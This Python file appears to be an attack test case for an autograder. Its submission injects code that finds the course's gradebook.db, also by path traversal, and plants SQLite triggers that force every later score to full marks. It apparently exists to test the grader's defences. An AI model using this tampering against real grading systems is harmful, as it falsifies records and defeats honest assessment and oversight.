"""Plants a trigger in the gradebook that turns every later score into full marks."""

CLASS = "harm to the record"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        f"""
        import os, sqlite3

        for path in ({str(hand_in.room.course / "gradebook.db")!r}, "../../../gradebook.db"):
            if os.path.exists(path):
                with sqlite3.connect(path, timeout=1) as book:
                    for event in ("INSERT", "UPDATE OF auto_score"):
                        name = "gradestone_attack_" + event[:6]
                        book.execute(
                            f"CREATE TRIGGER IF NOT EXISTS {{name}} AFTER {{event}} ON grade BEGIN "
                            "UPDATE grade SET manual_score = 10 WHERE id = NEW.id; END"
                        )
        """
    )
